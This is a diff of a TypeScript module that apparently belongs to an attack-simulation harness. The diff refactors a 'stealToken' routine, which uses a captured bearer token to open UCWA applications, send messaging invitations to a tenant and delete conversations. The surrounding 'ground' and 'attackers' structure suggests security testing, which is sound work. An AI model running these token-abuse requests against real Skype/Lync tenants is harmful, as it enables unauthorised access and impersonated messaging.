@@ -1,7 +1,7 @@
 import { randomUUID } from 'node:crypto';
 import * as z from 'zod';
+import type { Answered, AttackRequest } from './attackers/request.ts';
 import type { Ground } from './ground.ts';
-import type { Answered } from './sent-requests.ts';
 
 const answerSchema = z.object({
   visitorId: z.string(),
@@ -14,6 +14,8 @@ export type StolenToken = {
   readonly visitorId: string;
   readonly endpoint: string;
   readonly headers: Readonly<Record<string, string>>;
+  /** The request that opens an UCWA application by it. */
+  readonly opening: AttackRequest;
   /** Opens an UCWA application by it. */
   open(): Promise<Answered>;
   /** Invites the tenant in an application, which is named by its path. */
@@ -31,18 +33,20 @@ export async function stealToken(ground: Ground, tenant = ground.stage.tenant.id
   const { endpoint } = transport;
   const headers = { authorization: `Bearer ${transport.token}`, origin };
   const json = { userAgent: 'Attack/1.0', culture: 'en-us', anonymousDisplayName: 'Mallory' };
+  const opening = { method: 'POST', target: applications, headers, json };
   return {
     visitorId,
     endpoint,
     headers,
-    open: () => ground.send('POST', applications, { headers, json }),
+    opening,
+    open: () => ground.send(opening.method, opening.target, opening),
     invite: (application, subject) =>
       ground.send('POST', `${application}/communication/messagingInvitations`, {
         headers,
         json: { operationId: randomUUID(), to: endpoint, subject },
       }),
     leave: (application, invited) => {
-      const conversation = invited.headers.get('location')?.split('/').at(-1) ?? 'none';
+      const conversation = invited.headers.location?.split('/').at(-1) ?? 'none';
       return ground.send('DELETE', `${application}/communication/conversations/${conversation}`, { headers });
     },
   };
